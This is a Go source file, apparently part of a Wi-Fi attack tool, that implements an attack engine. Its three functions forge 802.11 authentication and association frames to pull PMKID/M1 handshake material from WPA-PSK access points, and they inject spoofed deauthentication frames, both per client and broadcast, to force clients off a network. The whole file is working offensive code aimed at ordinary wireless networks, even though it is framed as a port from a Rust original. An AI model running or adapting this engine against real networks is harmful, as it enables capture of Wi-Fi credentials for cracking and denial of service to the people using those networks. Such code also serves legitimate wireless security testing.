// Package attack is the Attack Engine: the per-AP state machine driving
// PMKID retrieval and client deauthentication, ported from
// original_source/src/attack.rs onto the teacher's error-sentinel /
// uuid-correlation style (internal/adapters/attack/deauth/engine.go).
package attack

import (
	"context"
	"errors"
	"fmt"
	"math/rand"
	"time"

	"github.com/google/uuid"
	"go.opentelemetry.io/otel"

	"github.com/lcalzada-xor/wmapattack/internal/adapters/sniffer/injection"
	"github.com/lcalzada-xor/wmapattack/internal/core/domain"
	"github.com/lcalzada-xor/wmapattack/internal/core/ports"
	"github.com/lcalzada-xor/wmapattack/internal/core/runtime"
	"github.com/lcalzada-xor/wmapattack/internal/telemetry"
)

var tracer = otel.Tracer("wmapattack")

// Sentinel errors for malformed invocations; short-circuits themselves
// are silent per spec.md §7 and return nil, not an error.
var (
	ErrBuildFrame = errors.New("attack: failed to build frame")
)

// t1Cooldown is the interaction cooldown (AuthSequence.T1) the attack
// engine waits out between attempts against the same AP. t2Cooldown is
// the state-cooldown window for T2; the engine restarts T2 but never
// checks it against this window.
const (
	t1Cooldown = 2 * time.Second
	t2Cooldown = 2 * time.Second
)

// transmit is a nil-safe wrapper around rc.Transmitter, since the
// engine's callers may build a runtime.Context without a transmitter in
// unit tests that only exercise preflight short-circuits.
func transmit(rc *runtime.Context, frx []byte) error {
	if rc.Transmitter == nil {
		return nil
	}
	return rc.Transmitter.Transmit(frx)
}

// Storage is the subset of the Handshake Assembler's storage the engine
// consults before acting, kept narrow so the engine doesn't import the
// full handshake package API.
type Storage interface {
	HasCompleteHandshakeForAP(apMac domain.MacAddress) bool
	HasM1ForAP(apMac domain.MacAddress) bool
}

// M1RetrievalAttack drives ap_mac through the forged
// Authentication -> AssociationRequest sequence, per spec.md §4.1.
func M1RetrievalAttack(ctx context.Context, rc *runtime.Context, storage Storage, apMac domain.MacAddress) error {
	_, span := tracer.Start(ctx, "M1RetrievalAttack")
	defer span.End()

	if !rc.IsTargeted(apMac) {
		return nil
	}
	if storage.HasCompleteHandshakeForAP(apMac) {
		return nil
	}
	ap, ok := rc.Registry.GetAccessPoint(apMac)
	if !ok {
		return nil
	}

	if ap.SSID == nil {
		frx, err := injection.ProbeRequestUndirected(rc.RogueClient, rc.Counter2.Next())
		if err != nil {
			return fmt.Errorf("%w: probe request: %w", ErrBuildFrame, err)
		}
		if !rc.NoTx {
			telemetry.FramesTransmitted.WithLabelValues("probe").Inc()
			if err := transmit(rc, frx); err != nil {
				rc.Log(ports.LevelWarning, fmt.Sprintf("m1_retrieval_attack: probe tx failed for %s: %v", apMac, err))
			}
			ap.Interactions++
		}
	}

	if !ap.AuthSequence.IsT1Timeout(rc.Clock.Now(), t1Cooldown) {
		return nil
	}

	if ap.AuthSequence.State > 0 {
		ap.AuthSequence.State = 0
		rc.Log(ports.LevelInfo, fmt.Sprintf("%s state reset to 0", apMac))
	}

	if storage.HasM1ForAP(apMac) {
		return nil
	}

	if ap.Security.PSK == nil || !*ap.Security.PSK {
		return nil
	}

	frx, err := injection.AuthenticationNoAck(apMac, rc.RogueClient, rc.Counter2.Next())
	if err != nil {
		return fmt.Errorf("%w: authentication: %w", ErrBuildFrame, err)
	}

	if rc.NoTx {
		return nil
	}

	attackID := uuid.New().String()
	telemetry.FramesTransmitted.WithLabelValues("auth").Inc()
	if err := transmit(rc, frx); err != nil {
		rc.Log(ports.LevelWarning, fmt.Sprintf("[%s] m1_retrieval_attack: tx failed for %s: %v", attackID, apMac, err))
	}
	ap.Interactions++
	ap.AuthSequence.State = 1
	ap.AuthSequence.UpdateT1Timer(rc.Clock.Now())
	ap.AuthSequence.UpdateT2Timer(rc.Clock.Now())
	rc.Log(ports.LevelInfo, fmt.Sprintf("[%s] %s state promoted to 1", attackID, apMac))
	return nil
}

// AttackAuthenticationFromAP is triggered when the parser observes the
// AP's authentication response addressed to the rogue client, per
// spec.md §4.2.
func AttackAuthenticationFromAP(ctx context.Context, rc *runtime.Context, storage Storage, apMac, clientMac domain.MacAddress) error {
	_, span := tracer.Start(ctx, "AttackAuthenticationFromAP")
	defer span.End()

	if !rc.IsTargeted(apMac) {
		return nil
	}
	ap, ok := rc.Registry.GetAccessPoint(apMac)
	if !ok {
		return nil
	}
	if ap.AuthSequence.State != 1 {
		return nil
	}
	if ap.AuthSequence.IsT1Timeout(rc.Clock.Now(), t1Cooldown) {
		ap.AuthSequence.State = 0
		ap.AuthSequence.UpdateT2Timer(rc.Clock.Now())
		rc.Log(ports.LevelInfo, fmt.Sprintf("%s state reset to 0", apMac))
		return nil
	}
	if storage.HasM1ForAP(apMac) {
		return nil
	}

	pairwiseTKIP := ap.Security.PairwiseTKIP != nil && *ap.Security.PairwiseTKIP
	groupTKIP := ap.Security.GroupTKIP != nil && *ap.Security.GroupTKIP

	ssid := ""
	if ap.SSID != nil {
		ssid = *ap.SSID
	}

	frx, err := injection.AssociationRequestOrg(apMac, clientMac, apMac, rc.Counter2.Next(), ssid, groupTKIP, pairwiseTKIP)
	if err != nil {
		return fmt.Errorf("%w: association request: %w", ErrBuildFrame, err)
	}

	if rc.NoTx {
		return nil
	}

	attackID := uuid.New().String()
	ap.AuthSequence.State = 2
	ap.AuthSequence.UpdateT1Timer(rc.Clock.Now())
	ap.AuthSequence.UpdateT2Timer(rc.Clock.Now())
	rc.Log(ports.LevelInfo, fmt.Sprintf("[%s] %s state promoted to 2", attackID, apMac))
	telemetry.FramesTransmitted.WithLabelValues("assoc").Inc()
	if err := transmit(rc, frx); err != nil {
		rc.Log(ports.LevelWarning, fmt.Sprintf("[%s] attack_authentication_from_ap: tx failed for %s: %v", attackID, apMac, err))
	}
	ap.Interactions++
	return nil
}

const deauthBeaconModulo = 32

// DeauthAttack periodically issues deauthentication frames, per
// spec.md §4.3. Guards: skips when the AP advertises MFP, or its AKM
// mask is empty.
func DeauthAttack(ctx context.Context, rc *runtime.Context, storage Storage, apMac domain.MacAddress) error {
	_, span := tracer.Start(ctx, "DeauthAttack")
	defer span.End()

	if !rc.IsTargeted(apMac) {
		return nil
	}
	if storage.HasCompleteHandshakeForAP(apMac) {
		return nil
	}
	ap, ok := rc.Registry.GetAccessPoint(apMac)
	if !ok {
		return nil
	}
	if rc.NoTx {
		return nil
	}

	if ap.BeaconCount%deauthBeaconModulo != 0 {
		return nil
	}

	mfp := ap.Security.MFP != nil && *ap.Security.MFP
	if mfp || !ap.Security.AKMMask() {
		return nil
	}

	if len(ap.Clients) > 0 {
		client := ap.Clients[rand.Intn(len(ap.Clients))].MAC

		fromAP, err := injection.DeauthenticationFromAP(apMac, client, rc.Counter1.Next(), injection.ReasonClass3FrameReceivedFromNonassociatedSTA)
		if err != nil {
			return fmt.Errorf("%w: deauth from ap: %w", ErrBuildFrame, err)
		}
		telemetry.FramesTransmitted.WithLabelValues("deauth_from_ap").Inc()
		if err := transmit(rc, fromAP); err != nil {
			rc.Log(ports.LevelWarning, fmt.Sprintf("deauth_attack: tx failed (from-ap) for %s: %v", apMac, err))
		}

		fromClient, err := injection.DeauthenticationFromClient(client, apMac, rc.Counter1.Next(), injection.ReasonDeauthenticatedBecauseSTAIsLeaving)
		if err != nil {
			return fmt.Errorf("%w: deauth from client: %w", ErrBuildFrame, err)
		}
		telemetry.FramesTransmitted.WithLabelValues("deauth_from_client").Inc()
		if err := transmit(rc, fromClient); err != nil {
			rc.Log(ports.LevelWarning, fmt.Sprintf("deauth_attack: tx failed (from-client) for %s: %v", apMac, err))
		}
	} else {
		fromAP, err := injection.DeauthenticationFromAP(apMac, domain.Broadcast, rc.Counter1.Next(), injection.ReasonClass3FrameReceivedFromNonassociatedSTA)
		if err != nil {
			return fmt.Errorf("%w: deauth from ap (broadcast): %w", ErrBuildFrame, err)
		}
		telemetry.FramesTransmitted.WithLabelValues("deauth_broadcast").Inc()
		if err := transmit(rc, fromAP); err != nil {
			rc.Log(ports.LevelWarning, fmt.Sprintf("deauth_attack: tx failed (broadcast) for %s: %v", apMac, err))
		}
	}

	ap.Interactions++
	rc.Log(ports.LevelInfo, fmt.Sprintf("attacked beacon: %s", apMac))
	return nil
}
